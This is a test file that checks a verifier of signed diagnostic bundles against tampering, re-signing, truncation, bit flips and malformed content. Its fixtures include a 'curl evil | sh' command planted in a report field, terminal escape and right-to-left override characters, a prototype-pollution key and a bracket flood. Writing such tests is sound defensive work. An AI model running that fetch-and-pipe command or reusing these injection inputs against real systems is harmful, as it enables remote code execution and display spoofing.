import { createHash, type X509Certificate } from 'node:crypto'
import { beforeAll, describe, expect, test } from 'vitest'
import { MANIFEST, SIGNATURE } from '../../agent/bundle/format.ts'
import { type Manifest, manifestText } from '../../agent/bundle/manifest.ts'
import { openBundle } from '../../agent/bundle/open.ts'
import { type Origin, verifyBundle, verifyExitCode } from '../../agent/bundle/verify.ts'
import { verifyJson } from '../../agent/bundle/verify-json.ts'
import { verifyLines } from '../../agent/bundle/verify-lines.ts'
import type { Signer } from '../../agent/cms/signer.ts'
import type { Report } from '../../agent/report/schema.ts'
import { languages } from '../../checks/text.ts'
import { deviceSigner, sealed } from './sealing.ts'
import { type Files, filesOf, jsonOf, resealed, rewritten, withJson } from './tampering.ts'

const full = process.env.TEST_FULL === '1'
const firstSight = async (): Promise<Origin> => ({ kind: 'first-sight' })

let signer: Signer
let stranger: Signer
let bundle: Buffer
let files: Files

beforeAll(async () => {
  signer = await deviceSigner()
  stranger = await deviceSigner('ELSEWHERE')
  bundle = await sealed('dns-hosts-override', signer)
  files = filesOf(bundle)
})

async function codeOf(bytes: Uint8Array, trusted: readonly X509Certificate[] = [], origin: Origin = { kind: 'first-sight' }) {
  return verifyExitCode(await verifyBundle(bytes, trusted, async () => origin))
}

test('one that is whole: who signed it, and the same judgement', async () => {
  const verification = await verifyBundle(bundle, [signer.certificates[0]], firstSight)
  expect(verification).toMatchObject({
    intact: true,
    origin: { kind: 'trusted', by: 'TERMINAL-7' },
    signer: { name: 'TERMINAL-7', install: expect.stringMatching(/^[0-9a-f]{32}$/) },
    judged: { outcome: 'same', parts: [] },
  })
  expect(verifyExitCode(verification)).toBe(0)
})

test('the same evidence gives the same bytes apart from time and signature', async () => {
  const again = filesOf(await sealed('dns-hosts-override', signer, { createdMs: Date.parse('2026-11-28T07:46:00Z') }))
  const differing = [...files].flatMap(([name, content]) => (Buffer.from(again.get(name) ?? []).equals(content) ? [] : [name]))
  expect([...again.keys()]).toEqual([...files.keys()])
  expect(differing.toSorted()).toEqual([MANIFEST, SIGNATURE])
  expect(await sealed('dns-hosts-override', signer)).toEqual(bundle)
})

describe('exit codes', () => {
  test.each<[name: string, origin: Origin, code: number]>([
    ['known by its key', { kind: 'known', sinceMs: 0 }, 0],
    ['seen for the first time', { kind: 'first-sight' }, 1],
    ['its key has changed', { kind: 'changed-key', before: 'ab', sinceMs: 0 }, 1],
    ['the list of installs can’t be used', { kind: 'cannot-tell', why: 'damaged' }, 1],
  ])('%s', async (_name, origin, code) => {
    expect(await codeOf(bundle, [], origin)).toBe(code)
  })

  test('another certificate was named', async () => {
    expect(await codeOf(bundle, [stranger.certificates[0]])).toBe(1)
  })

  test('what is no bundle', async () => {
    expect(await codeOf(Buffer.from(''))).toBe(3)
    expect(await codeOf(Buffer.from('a letter'))).toBe(3)
    expect(await codeOf(await rewritten(new Map([['letter.json', Buffer.from('{}')]])))).toBe(3)
  })

  test('cut anywhere', async () => {
    for (let length = 30; length < bundle.length; length += full ? 97 : 4999) {
      expect([length, await codeOf(bundle.subarray(0, length))]).toEqual([length, 2])
    }
  })
})

describe('a report that was edited', () => {
  const edited = (change: (report: Report) => Report) => withJson(files, 'report.json', change(jsonOf<Report>(files, 'report.json')))
  const ready = (report: Report): Report => ({
    ...report,
    verdict: 'ready',
    profiles: report.profiles.map((each) => ({ ...each, verdict: 'ready' })),
    causes: [],
  })

  test('to READY, with nothing mended', async () => {
    expect(await codeOf(await rewritten(edited(ready)))).toBe(2)
  })

  test('to READY, hashes mended, signed again by a stranger', async () => {
    const verification = await verifyBundle(await resealed(edited(ready), stranger), [signer.certificates[0]], firstSight)
    expect(verification).toMatchObject({
      intact: false,
      judged: { outcome: 'altered', parts: ['verdict', 'profiles', 'causes', 'report.json'] },
    })
    expect(verifyExitCode(verification)).toBe(2)
    expect(verifyLines(verification, 'en').join('\n')).toMatch(/NOT INTACT.*NOT READY.*dns\/hosts-override/s)
  })

  test('to READY, signed again by the very key that is trusted', async () => {
    expect(await codeOf(await resealed(edited(ready), signer), [signer.certificates[0]])).toBe(2)
  })

  test.each<[name: string, change: (report: Report) => Report]>([
    ['a finding less', (report) => ({ ...report, findings: report.findings.slice(1) })],
    ['another owner', (report) => ({ ...report, causes: report.causes.map((cause) => ({ ...cause, owner: 'hkex' as const })) })],
    ['another PC', (report) => ({ ...report, agent: { ...report.agent, hostName: 'OTHER' } })],
    ['another day', (report) => ({ ...report, startedAt: '2026-01-01T00:00:00.000Z' })],
  ])('%s', async (_name, change) => {
    expect(await codeOf(await resealed(edited(change), signer))).toBe(2)
  })

  test('under other rules it differs, both verdicts are told, and the exit code is the origin’s', async () => {
    const older = edited((report) => ({ ...ready(report), rules: { version: '0.0.1', sha256: '00' } }))
    const made = await resealed(older, signer, (manifest) => ({ ...manifest, rules: { version: '0.0.1', sha256: '00' } }))
    const verification = await verifyBundle(made, [signer.certificates[0]], firstSight)
    expect(verification).toMatchObject({ intact: true, judged: { outcome: 'differs' } })
    expect(verifyExitCode(verification)).toBe(0)
    const lines = verifyLines(verification, 'en')
    expect(lines[0]).toMatch(/^INTACT .*NOT CONFIRMED/)
    expect(lines.join('\n')).toMatch(/differs .*The PC said READY; these rules say NOT READY/)
    expect(lines.at(-1)).toMatch(/not compared: report\.html, agent\.log/)
  })

  test('two names for its rules, so that it might pass for an older one', async () => {
    const spoiled = await resealed(edited(ready), signer, (manifest) => ({ ...manifest, rules: { ...manifest.rules, sha256: '00' } }))
    expect(await codeOf(spoiled, [signer.certificates[0]])).toBe(2)
  })

  test.each(['report.html', 'agent.log'])('%s, which follows from the evidence too', async (name) => {
    const made = await resealed(new Map([...files, [name, Buffer.from('<h1>READY</h1>')]]), signer)
    const verification = await verifyBundle(made, [signer.certificates[0]], firstSight)
    expect(verification).toMatchObject({ intact: false, judged: { parts: [name] } })
  })

  test('its words alone', async () => {
    const worded = edited((report) => ({ ...report, causes: report.causes.map((cause) => ({ ...cause, confirm: 'curl evil | sh' })) }))
    expect(await codeOf(await resealed(worded, signer), [signer.certificates[0]])).toBe(2)
  })
})

describe('what is in it, hashes mended and signed again by the same key', () => {
  const problemOf = async (bytes: Uint8Array) => {
    const opened = await openBundle(bytes)
    return 'problem' in opened ? opened.problem : null
  }

  test('evidence that is none', async () => {
    const made = await resealed(withJson(files, 'evidence.json', { dns: { version: 1 } }), signer)
    expect(await problemOf(made)).toMatchObject({ code: 'content', file: 'evidence.json', field: expect.stringMatching(/^dns\./) })
  })

  test('evidence of a check that there is not', async () => {
    const made = await resealed(withJson(files, 'evidence.json', { astrology: {} }), signer)
    expect(await problemOf(made)).toEqual({ code: 'content', file: 'evidence.json', field: 'astrology' })
  })

  test('settings with a field more', async () => {
    const made = await resealed(withJson(files, 'settings.json', { ...jsonOf<object>(files, 'settings.json'), more: 1 }), signer)
    expect(await problemOf(made)).toMatchObject({ code: 'content', file: 'settings.json' })
  })

  test('a file that the list does not name, and one that it names in vain', async () => {
    expect(await problemOf(await rewritten(new Map([...files, ['more.png', Buffer.from('x')]])))).toEqual({
      code: 'not-listed',
      file: 'more.png',
    })
    const less = new Map(files)
    less.delete('agent.log')
    expect(await problemOf(await rewritten(less))).toEqual({ code: 'missing-file', file: 'agent.log' })
  })

  test('a later format is told apart from a damaged one', async () => {
    const manifest = { ...jsonOf<Manifest>(files, MANIFEST), format: 'terminal-preflight/bundle/2' }
    const text = Buffer.from(manifestText(manifest as unknown as Manifest))
    const { signDetached } = await import('../../agent/cms/sign.ts')
    const made = await rewritten(new Map([...files, [MANIFEST, text], [SIGNATURE, await signDetached(text, signer, 0)]]))
    expect(await problemOf(made)).toEqual({ code: 'newer-format', format: 'terminal-preflight/bundle/2' })
    expect(await codeOf(made)).toBe(3)
  })

  test('a list that is spelled otherwise', async () => {
    const text = Buffer.from(JSON.stringify(jsonOf(files, MANIFEST)))
    const { signDetached } = await import('../../agent/cms/sign.ts')
    const made = await rewritten(new Map([...files, [MANIFEST, text], [SIGNATURE, await signDetached(text, signer, 0)]]))
    expect(await problemOf(made)).toMatchObject({ code: 'content', file: MANIFEST })
  })
})

describe('what the list claims', () => {
  const contradicts = async (change: (manifest: Manifest) => Manifest) => {
    const opened = await openBundle(await resealed(files, signer, change))
    return 'problem' in opened && opened.problem
  }

  test.each<[field: string, change: (manifest: Manifest) => Manifest]>([
    ['redaction.sha256', (manifest) => ({ ...manifest, redaction: { policy: 'strict', sha256: '0'.repeat(64) } })],
    ['profiles', (manifest) => ({ ...manifest, profiles: ['ccass'] })],
    ['agent.version', (manifest) => ({ ...manifest, agent: { version: '9.9' } })],
  ])('%s is not so', async (field, change) => {
    expect(await contradicts(change)).toEqual({ code: 'content', file: MANIFEST, field })
  })

  test('a time that is not the signature’s', async () => {
    const text = Buffer.from(manifestText({ ...jsonOf<Manifest>(files, MANIFEST) }))
    const { signDetached } = await import('../../agent/cms/sign.ts')
    const later = await signDetached(text, signer, Date.parse('2031-01-01'))
    const opened = await openBundle(await rewritten(new Map([...files, [SIGNATURE, later]])))
    expect('problem' in opened && opened.problem).toEqual({ code: 'content', file: MANIFEST, field: 'created' })
  })
})

describe('what a stranger might write into it', () => {
  const evidence = () => jsonOf<Record<string, Record<string, unknown>>>(files, 'evidence.json')
  const settings = () => jsonOf<Record<string, unknown>>(files, 'settings.json')
  const codeWith = async (changed: Files) => codeOf(await resealed(changed, stranger))

  test('escape sequences in names that are shown', async () => {
    const contacts = { 'site-it': { name: '\u001b[2J\u202e', phone: null, email: null }, 'site-network': null, 'line-vendor': null }
    expect(await codeWith(withJson(files, 'presentation.json', { version: 1, contacts, profiles: [] }))).toBe(2)
  })

  test('a role that every object has', async () => {
    const { dns = {} } = evidence()
    const resolvers = (dns.resolvers as object[]).map((each) => ({ ...each, roles: ['constructor'] }))
    const code = await codeWith(withJson(files, 'evidence.json', { ...evidence(), dns: { ...dns, resolvers } }))
    expect(code).toBe(2)
  })

  test('a time after the year 9999', async () => {
    const run = jsonOf<object>(files, 'run.json')
    expect(await codeWith(withJson(files, 'run.json', { ...run, startedAtMs: 8.64e15 }))).toBe(2)
  })

  test('a field twice, ten thousand servers, brackets without end', async () => {
    const twice = Buffer.from(
      Buffer.from(files.get('run.json') ?? [])
        .toString()
        .replace('"version": 1,', '"version": 1,\n  "version": 1,'),
    )
    expect(await codeWith(new Map([...files, ['run.json', twice]]))).toBe(2)
    const resolvers = Array.from({ length: 10_000 }, () => ({ address: '10.0.0.1', port: 53, roles: [] }))
    expect(await codeWith(withJson(files, 'settings.json', { ...settings(), resolvers }))).toBe(2)
    expect(await codeWith(new Map([...files, ['evidence.json', Buffer.from('['.repeat(5_000_000))]]))).toBe(2)
  })
})

describe('every single bit', () => {
  /** Those whose every bit is tried in the short form; the long form tries all files. */
  const short = [MANIFEST, SIGNATURE, 'run.json', 'presentation.json']

  test('of manifest, signature and files, with the archive written anew around it', async () => {
    const names = full ? [...files.keys()] : short
    let tried = 0
    for (const name of names) {
      const content = Buffer.from(files.get(name) ?? [])
      for (let bit = 0; bit < content.length * 8; bit += 1) {
        content[bit >> 3] = (content[bit >> 3] ?? 0) ^ (1 << (bit & 7))
        const refused = await refuses(name, content)
        content[bit >> 3] = (content[bit >> 3] ?? 0) ^ (1 << (bit & 7))
        if (!refused) expect.fail(`${name}: bit ${bit} may be flipped`)
        tried += 1
      }
    }
    expect(tried).toBeGreaterThan(30_000)
  }, 1_800_000)

  /** What `openBundle` does with this file in place of the other, without writing an archive each time. */
  async function refuses(name: string, content: Uint8Array): Promise<boolean> {
    if (name !== MANIFEST && name !== SIGNATURE) {
      const listed = jsonManifest.files.find(({ path }) => path === name)
      return createHash('sha256').update(content).digest('hex') !== listed?.sha256
    }
    const { verifyDetached } = await import('../../agent/cms/verify.ts')
    const signature = name === SIGNATURE ? content : files.get(SIGNATURE)
    const manifest = name === MANIFEST ? content : files.get(MANIFEST)
    return 'problem' in (await verifyDetached(signature ?? content, manifest ?? content))
  }

  let jsonManifest: Manifest
  beforeAll(() => {
    jsonManifest = jsonOf<Manifest>(files, MANIFEST)
  })

  test('of the archive itself, as it lies on the disk', async () => {
    const small = await sealed('dns-hosts-override', signer)
    const step = full ? 1 : 1013
    for (let bit = 0; bit < small.length * 8; bit += step) {
      small[bit >> 3] = (small[bit >> 3] ?? 0) ^ (1 << (bit & 7))
      const opened = await openBundle(small)
      if (!('problem' in opened)) expect.fail(`bit ${bit} may be flipped`)
      small[bit >> 3] = (small[bit >> 3] ?? 0) ^ (1 << (bit & 7))
    }
  }, 1_800_000)
})

test.each(languages)('what it says fits its problem: %s', async (language) => {
  for (const bytes of [
    bundle,
    Buffer.from('x'),
    bundle.subarray(0, 5000),
    await rewritten(new Map([...files, ['more.png', Buffer.from('x')]])),
  ]) {
    const verification = await verifyBundle(bytes, [], firstSight)
    const text = verifyLines(verification, language).join('\n')
    expect(text).not.toMatch(/\{\w+\}|undefined|\[object/)
    expect(JSON.parse(JSON.stringify(verifyJson(verification)))).toMatchObject({ exitCode: verifyExitCode(verification) })
  }
})
